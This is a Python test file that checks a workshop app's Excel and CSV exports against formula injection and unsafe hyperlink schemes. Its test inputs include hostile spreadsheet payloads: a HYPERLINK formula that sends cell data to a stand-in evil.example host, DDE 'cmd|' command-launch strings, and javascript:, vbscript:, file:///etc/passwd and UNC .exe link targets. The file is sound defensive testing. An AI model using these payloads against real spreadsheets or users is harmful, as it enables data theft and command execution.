"""Formula injection (OWASP CSV injection): input text is exported as text, on every path.

A workshop is filled, in every text field it has (IDs, needs, segments, evidence, custom column
names and values, override reasons, source file names, method notes), with text that a
spreadsheet program would run as a formula. Every sheet of the client workbook and the CSV are
then read back: the text must be a string cell showing exactly the input text, never a formula;
CSV cells that could start a formula carry the OWASP apostrophe.
"""

from __future__ import annotations

import csv
import inspect
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from sweetspot.core.export import BacklogInputs, write_backlog, write_backlog_csv
from sweetspot.core.model import Workshop
from sweetspot.core.safe_text import FORMULA_STARTS, csv_safe, needs_quote_prefix
from sweetspot.core.scoring import Override, ScoringSettings, score
from tests.conftest import make_small_workshop

PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
ID_MAP = {"I1": "I1", "I2": "I2", "O1": "O1", "O2": "O2", "A": "A", "B": "B", "C": "C"}


def hostile_workshop(p: str) -> tuple[Workshop, ScoringSettings, dict[str, str], set[str]]:
    """Every input text field starts with payload `p` (and names its field, to find it)."""
    w = make_small_workshop()
    ids = {k: f"{p}{k}" for k in ID_MAP}
    texts: set[str] = set(ids.values())

    def fill(df: pd.DataFrame, fields: list[str], tag: str) -> None:
        for f in fields:
            values = [f"{p}{tag}.{f}.{i}" for i in range(len(df))]
            df[f] = values
            texts.update(values)

    fill(
        w.insights,
        ["need", "segment", "journey_stage", "sentiment", "emotion", "evidence", "tags"],
        "ins",
    )
    fill(w.objectives, ["objective", "kpi", "owner"], "obj")
    fill(w.initiatives, ["initiative", "owner", "theme", "description", "status"], "ini")
    for df, tag in ((w.insights, "ins"), (w.objectives, "obj"), (w.initiatives, "ini")):
        name = f"{p}{tag}.custom"
        df[name] = [f"{p}{tag}.custom.{i}" for i in range(len(df))]
        texts.add(name)
        texts.update(df[name])
        df["id"] = df["id"].map(ids)
    w.links["initiative"] = w.links["initiative"].map(ids)
    w.links["target"] = w.links["target"].map(ids)
    w.files = [f"{p}client survey.xlsx"]
    texts.update(w.files)
    # The reason is shown inside a composed sentence, not as a cell of its own.
    reason = f"{p}room agreed"
    settings = ScoringSettings(overrides={ids["B"]: Override(80.0, 60.0, reason)})
    extra = {f"{p}note key": f"{p}note value"}
    texts.update(extra)
    texts.update(extra.values())
    return w, settings, extra, texts


def all_cells(path: Path) -> list[tuple[str, openpyxl.cell.cell.Cell]]:
    wb = openpyxl.load_workbook(path)  # not read-only: styles (quote prefix) are needed
    return [(ws.title, cell) for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


# write_backlog takes the composer's inputs as keywords (export.BacklogInputs).
WRITE_OPTIONS = set(inspect.signature(write_backlog).parameters) | set(
    BacklogInputs.__optional_keys__
)
# The app's own formulas live on these sheets (built from cell addresses, never input text).
OWN_FORMULA_SHEETS = {"What-if", "What-if data"}


@pytest.mark.parametrize("what_if", [False, True], ids=["plain", "what-if"])
@pytest.mark.parametrize("name", list(PAYLOADS))
def test_every_input_text_is_a_string_cell_in_every_sheet(
    tmp_path: Path, name: str, what_if: bool
) -> None:
    p = PAYLOADS[name]
    w, settings, extra, texts = hostile_workshop(p)
    result = score(w, settings)
    options: dict[str, Any] = {}
    if what_if:
        if "what_if" not in WRITE_OPTIONS:
            pytest.skip("this export has no What-if sheet")
        options["what_if"] = True
    if "extra_sheets" in WRITE_OPTIONS:
        votes = pd.DataFrame({f"{p}voter": [f"{p}voter.a"], "Comment": [f"{p}comment.a"]})
        options["extra_sheets"] = {"Votes": votes}
        texts.update({f"{p}voter", f"{p}voter.a", f"{p}comment.a"})
    path = write_backlog(tmp_path / "backlog.xlsx", w, result, extra_method=extra, **options)

    cells = all_cells(path)
    assert not [
        (s, c.coordinate) for s, c in cells if c.data_type == "f" and s not in OWN_FORMULA_SHEETS
    ]
    shown: dict[str, list[tuple[str, openpyxl.cell.cell.Cell]]] = {}
    for sheet, cell in cells:
        if isinstance(cell.value, str):
            shown.setdefault(cell.value, []).append((sheet, cell))
    # Each input text appears somewhere as exactly the same text (tab and CR included).
    missing = sorted(t for t in texts if t not in shown)
    assert not missing, missing
    assert any(f"{p.strip()}room agreed" in text for text in shown)
    for text in texts:
        for sheet, cell in shown[text]:
            assert cell.data_type == "s", (sheet, cell.coordinate)
            # The quote prefix tells the spreadsheet program "this is text" on editing, too.
            assert cell.quotePrefix, (sheet, cell.coordinate, text)
    # Driver lists and other composed cells hold input text too: none of them a formula.
    with zipfile.ZipFile(path) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                xml = z.read(part).decode("utf-8")
                for formula in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S):
                    # Only the app's own formulas may exist (the what-if sheet): none of them
                    # carries input text.
                    for marker in ("ins.", "ini.", "obj.", "evil", "cmd|", "SUM(1+9)"):
                        assert marker not in formula, (part, formula)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_backlog_csv_is_safe_per_owasp(tmp_path: Path, name: str) -> None:
    p = PAYLOADS[name]
    w, settings, _, texts = hostile_workshop(p)
    result = score(w, settings)
    path = write_backlog_csv(tmp_path / "backlog.csv", result)
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    assert len(body) == 3
    for row in body:
        assert len(row) == len(header)
        for cell in row:
            # No cell of the CSV may start a formula; the apostrophe is OWASP's advice.
            assert not cell.startswith(FORMULA_STARTS), (header, row)
    column = {h: [r[i] for r in body] for i, h in enumerate(header)}
    assert sorted(column["ID"]) == sorted(f"'{p}{k}" for k in ("A", "B", "C"))
    assert sorted(column["Initiative"]) == sorted(f"'{p}ini.initiative.{i}" for i in range(3))
    assert f"'{p.strip()}room agreed" in " ".join(column["Workshop override"])
    # Numbers stay numbers (a negative number is not text to defuse).
    assert all(re.fullmatch(r"-?\d+(\.\d+)?", v) for v in column["Sweet-spot score"])
    assert texts  # the workshop really was hostile


def test_csv_safe_and_quote_prefix_rules() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert needs_quote_prefix(start + "1")
        assert csv_safe(start + "1") == "'" + start + "1"
    assert csv_safe("Queues at =branch") == "Queues at =branch"
    assert csv_safe("") == ""
    assert not needs_quote_prefix("'=already quoted")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_program_shows_the_text_not_a_result(tmp_path: Path) -> None:
    """LibreOffice recalculates formulas on opening: if any cell were a formula, the Backlog
    sheet converted to CSV would show its result (2, #NAME?) instead of the text."""
    w = make_small_workshop()
    w.initiatives["initiative"] = ["=1+1", "+1+1", "@SUM(1,1)"]
    w.initiatives["owner"] = ["-1+3", "=A1", '=HYPERLINK("http://evil")']
    result = score(w)
    path = write_backlog(tmp_path / "backlog.xlsx", w, result)
    out = tmp_path / "out"
    subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--convert-to",
            "csv",
            "--outdir",
            str(out),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    with open(out / "backlog.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    header = rows[0]
    shown = {(r[header.index("Initiative")], r[header.index("Owner")]) for r in rows[1:]}
    assert shown == {("=1+1", "-1+3"), ("+1+1", "=A1"), ("@SUM(1,1)", '=HYPERLINK("http://evil")')}


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "http://example.com/a",
        "mailto:a@example.com",
        "vbscript:msgbox(1)",
        "\\\\server\\share\\x.exe",
    ],
)
def test_no_link_is_made_except_http_and_mailto(tmp_path: Path, url: str) -> None:
    w = make_small_workshop()
    w.insights["evidence"] = [url, f"See {url}"]
    w.initiatives["description"] = [url, url, url]
    w.insights["Source"] = [url, url]
    path = write_backlog(tmp_path / "backlog.xlsx", w, score(w))
    wb = openpyxl.load_workbook(path)
    links = [
        (ws.title, cell.coordinate, cell.hyperlink.target)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.hyperlink is not None
    ]
    for _, _, target in links:
        assert str(target).startswith(("http://", "https://", "mailto:")), links
    evidence = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert url in evidence  # the text itself is kept, as text
    with zipfile.ZipFile(path) as z:
        rels = " ".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
    for scheme in ("javascript:", "file:", "vbscript:", "\\\\server"):
        assert scheme not in rels
